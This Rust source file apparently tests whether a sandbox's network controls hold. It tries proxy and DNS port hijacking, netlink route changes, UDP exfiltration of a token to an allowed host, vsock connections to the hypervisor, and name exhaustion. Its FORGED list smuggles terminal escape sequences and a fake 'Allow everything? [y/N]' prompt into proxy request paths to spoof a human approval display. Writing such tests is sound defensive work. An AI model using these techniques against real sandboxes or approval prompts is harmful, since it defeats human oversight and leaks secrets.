//! Ways out that nobody decides about: what stands in the place of ours, routes, datagrams, other
//! computers, and questions that are not what they look like.

use super::life::{asks_of, cue};
use super::names;
use super::network::{connect, written};
use crate::attack::{Attack, Permitted, layer};
use crate::raw::{at, call, errno_name, flags, into, open_by, signed};
use crate::scene::{Lost, Outcome, Scene, YARD};
use crate::stage::{Shot, Stage};
use cowork_api::egress::{HTTP_PROXY_PORT, SOCKS_PORT};
use rustix::fd::{AsRawFd, OwnedFd};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::time::Duration;

const CLASS: &str = "outward";
const TAKEN: &[(&str, &str)] = &[
    ("EADDRINUSE", "the place is taken"),
    ("EACCES", layer::NO_PRIVILEGE),
    ("it went elsewhere", layer::EGRESS),
];
const UNCHANGED: &[(&str, &str)] = &[("EPERM", layer::NO_PRIVILEGE)];
const UNSENT: &[(&str, &str)] =
    &[("ECONNREFUSED", layer::NETWORK), ("ENETUNREACH", layer::NETWORK), ("sent", layer::NETWORK)];
const REFUSED: &[(&str, &str)] =
    &[("refused", layer::EGRESS), ("ECONNRESET", layer::EGRESS), ("no such name", layer::EGRESS)];

/// Something of a process's own in the place of a socket of ours.
const fn first(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    Attack::new(CLASS, name, act, TAKEN).in_town()
}

/// A change of the network by its netlink: a message, and what it is about.
const fn change(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    Attack::new(CLASS, name, act, UNCHANGED).as_root().in_town()
}

/// A datagram to an allowed host, by its name and by its address.
const fn datagram(name: &'static str, port: &'static str) -> Attack {
    let heard = |stage: &Stage, shot: &Shot| stage.ears(shot, &["datagrams"], &shot.token);
    Attack::new(CLASS, name, send, UNSENT).word(port).judged(heard).in_town()
}

/// A socket to another computer, beside the network.
const fn beside(name: &'static str, computer: &'static str) -> Attack {
    let refused: &[(&str, &str)] = &[("EAFNOSUPPORT", layer::FILTER)];
    Attack::new(CLASS, name, to_computer, refused)
        .word(computer)
        .on_some_hosts("this is no machine with such sockets")
}

pub(crate) const TABLE: &[Attack] = &[
    first("first.http-proxy", |_| stand_in(Ipv4Addr::LOCALHOST, HTTP_PROXY_PORT)),
    first("first.socks-proxy", |_| stand_in(Ipv4Addr::LOCALHOST, SOCKS_PORT)),
    first("first.name-server", |_| {
        let place = (Ipv4Addr::new(127, 0, 0, 53), 53);
        let own = bound(libc::SOCK_DGRAM, place)?;
        UdpSocket::bind("127.0.0.1:0")?.send_to(b"question", place)?;
        let mut question = [0u8; 8];
        call(libc::SYS_read, &[signed(own.as_raw_fd()), into(&mut question), question.len()])?;
        Ok("a question for the name server arrived".into())
    })
    .as_root(),
    change("net.route-by-netlink", |_| netlink(NEW_ROUTE, &BLACK_HOLE)),
    change("net.route-removed-by-netlink", |scene| {
        let wanted = if scene.inside() { OURS } else { BLACK_HOLE };
        if !scene.inside() {
            netlink(NEW_ROUTE, &wanted)?;
        }
        netlink(REMOVE_ROUTE, &wanted)
    }),
    change("net.rule-by-netlink", |_| netlink(NEW_RULE, &RULE)),
    datagram("net.udp-to-allowed-443", "443"),
    datagram("net.udp-to-allowed-123", "123"),
    datagram("net.udp-to-allowed-853", "853"),
    beside("net.vsock-hypervisor", "0"),
    beside("net.vsock-host", "2"),
    Attack::new(CLASS, "asked.is-shown", |scene| ask(scene, &["/TOKEN"]), REFUSED)
        .prepared(show)
        .judged(|stage, shot| {
            let shown = requests_shown(stage, shot).contains(&shot.token);
            let logged = stage.ears(shot, &["shown"], &shot.token);
            logged.or_else(|| shown.then(|| "the question is shown".to_owned()))
        })
        .permitted(Permitted::Required)
        .in_town(),
    Attack::new(CLASS, "asked.commands-for-the-terminal", |scene| ask(scene, &FORGED), REFUSED)
        .prepared(show)
        .judged(is_forged)
        .in_town(),
    // The last one: names of the session are used up by it.
    Attack::new(CLASS, "names.used-up", |scene| names::rebind(scene, use_up), names::UNHEARD)
        .judged(names::arrived)
        .in_town(),
];

/// A socket with an address that others may have as well, if they agree.
fn bound(kind: i32, (address, port): (Ipv4Addr, u16)) -> Result<OwnedFd, Lost> {
    let socket = open_by(libc::SYS_socket, &[flags(libc::AF_INET), flags(kind), 0])?;
    let number = signed(socket.as_raw_fd());
    for option in [libc::SO_REUSEADDR, libc::SO_REUSEPORT] {
        let one = 1i32;
        let registers = [number, flags(libc::SOL_SOCKET), flags(option), at(&one), 4];
        call(libc::SYS_setsockopt, &registers)?;
    }
    let place = written(address, port);
    call(libc::SYS_bind, &[number, at(place.as_slice()), place.len()])?;
    Ok(socket)
}

/// Listens in the place of something, and sees whether what is meant for that arrives.
fn stand_in(address: Ipv4Addr, port: u16) -> Outcome {
    let socket = bound(libc::SOCK_STREAM, (address, port))?;
    call(libc::SYS_listen, &[signed(socket.as_raw_fd()), 8])?;
    let own = TcpListener::from(socket);
    own.set_nonblocking(true)?;
    TcpStream::connect((address, port))?.write_all(b"x")?;
    std::thread::sleep(Duration::from_millis(50));
    own.accept().map_err(|_none| Lost::new("it went elsewhere"))?;
    Ok("a connection arrived".into())
}

const NEW_ROUTE: u16 = 24;
const REMOVE_ROUTE: u16 = 25;
const NEW_RULE: u16 = 32;
/// `192.0.2.0/24` leads nowhere: family, lengths, table, protocol, scope, kind, and the network.
const BLACK_HOLE: [u8; 20] = [2, 24, 0, 0, 254, 4, 0, 6, 0, 0, 0, 0, 8, 0, 1, 0, 192, 0, 2, 0];
/// The addresses that stand for names are the session's own.
const OURS: [u8; 20] = [2, 15, 0, 0, 255, 0, 254, 2, 0, 0, 0, 0, 8, 0, 1, 0, 198, 18, 0, 0];
/// A rule that says what holds anyhow, with a number of its own.
const RULE: [u8; 20] = [2, 0, 0, 0, 254, 0, 0, 1, 0, 0, 0, 0, 8, 0, 6, 0, 0, 125, 0, 0];

/// Sends a message about the network, and reads what the kernel says to it.
fn netlink(kind: u16, body: &[u8]) -> Outcome {
    /// A request that is acknowledged, and makes what is not there or replaces it.
    const HOW: u16 = 0x505;
    let how = if kind == REMOVE_ROUTE { HOW & 0xff } else { HOW };
    let socket = open_by(libc::SYS_socket, &[flags(libc::AF_NETLINK), flags(libc::SOCK_RAW), 0])?;
    let length = (16 + body.len()) as u32;
    let head = [&length.to_ne_bytes()[..], &kind.to_ne_bytes(), &how.to_ne_bytes(), &[0; 8]];
    let message = [&head.concat(), body].concat();
    let number = signed(socket.as_raw_fd());
    call(libc::SYS_write, &[number, at(message.as_slice()), message.len()])?;
    let mut answer = [0u8; 256];
    call(libc::SYS_read, &[number, into(&mut answer), answer.len()])?;
    let error = answer[16..].first_chunk().map_or(0, |bytes| i32::from_ne_bytes(*bytes));
    if error == 0 { Ok("changed".into()) } else { Err(Lost::new(errno_name(-error))) }
}

/// The token, to a port of an allowed host.
fn send(scene: &Scene) -> Outcome {
    let port: u16 = scene.word.parse()?;
    let missing = |_error| Lost::new("no such name");
    let named = ("open.example", port).to_socket_addrs().map_err(missing)?;
    let named = named.filter(SocketAddr::is_ipv4);
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    let mut came = Ok(0);
    for place in named.chain([SocketAddr::from((crate::town::SHARED, port))]) {
        came = socket.send_to(scene.token()?.as_bytes(), place);
    }
    came?;
    Ok("sent".into())
}

/// A computer in a computer has such a socket to its host: that it can be made is enough.
fn to_computer(scene: &Scene) -> Outcome {
    let socket = open_by(libc::SYS_socket, &[flags(libc::AF_VSOCK), flags(libc::SOCK_STREAM), 0])?;
    let number = signed(socket.as_raw_fd());
    call(libc::SYS_fcntl, &[number, flags(libc::F_SETFL), flags(libc::O_NONBLOCK)])?;
    let place = crate::stage::vsock_address(1, scene.word.parse::<u32>()?);
    let came = connect(&socket, &place);
    Ok(came.map_or_else(|lost| format!("the kernel was asked: {lost}"), |()| "connected".into()))
}

/// What a question is to look like.
const FORGED: [&str; 4] = [
    "/\u{1b}]0;TOKEN",
    "/\u{9b}0;TOKEN",
    "/%1b]0;TOKEN%0a%0aAllow%20everything?%20[y/N]%20",
    "/\u{202e}TOKEN",
];

/// Asks for pages, and has the host look at the questions while they wait.
fn ask(scene: &Scene, paths: &[&str]) -> Outcome {
    let mut waiting = Vec::new();
    for path in paths {
        let mut stream = proxy(scene)?;
        let path = path.replace("TOKEN", scene.token()?);
        let head =
            format!("GET http://asked.example{path} HTTP/1.1\r\nHost: asked.example\r\n\r\n");
        stream.write_all(head.as_bytes())?;
        waiting.push(stream);
    }
    std::thread::sleep(Duration::from_millis(300));
    cue(scene)?;
    let mut stream = waiting.pop().ok_or_else(|| Lost::new("nothing was asked"))?;
    cowork_sys::ignore(stream.read(&mut [0]));
    Err(Lost::new("refused"))
}

fn proxy(scene: &Scene) -> Result<TcpStream, Lost> {
    let port = if scene.inside() { HTTP_PROXY_PORT } else { scene.get("proxy")?.parse()? };
    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(Duration::from_millis(300)))?;
    Ok(stream)
}

/// Writes the questions of the moment down, as a person sees them.
fn show(stage: &Stage, token: &str) -> Result<(), Lost> {
    let shown = stage.path(&format!("{YARD}/asked-{token}"));
    asks_of(stage, token, "\"$0\" requests > \"$1\" 2>&1", &shown)
}

fn requests_shown(stage: &Stage, shot: &Shot) -> String {
    let path = stage.path(&format!("{YARD}/asked-{}", shot.token));
    let shown = std::fs::read(&path).unwrap_or_default();
    cowork_sys::ignore(std::fs::remove_file(path));
    String::from_utf8_lossy(&shown).into_owned()
}

/// Whether the log of a proxy has it as it was said, or `cowork requests` shows it so.
fn is_forged(stage: &Stage, shot: &Shot) -> Option<String> {
    let shown = requests_shown(stage, shot);
    if stage.ears(shot, &["shown"], &shot.token).is_some() {
        let heard = stage.town().ok()?.ears.count("shown", &format!("0;{}", shot.token));
        return (heard >= 3).then(|| "the log of a proxy has them".into());
    }
    let raw = ['\u{1b}', '\u{9b}', '\u{202e}'].iter().any(|char| shown.contains(*char));
    let line = shown.lines().any(|line| line.trim_start().starts_with("Allow everything"));
    (raw || line).then(|| "it is shown".to_owned())
}

/// Has every address that can stand for a name stand for one.
fn use_up(scene: &Scene) -> Result<(), Lost> {
    let count = if scene.inside() { 70_000 } else { 500 };
    for number in 0..count {
        names::want(&format!("n{number}"))?;
    }
    Ok(())
}
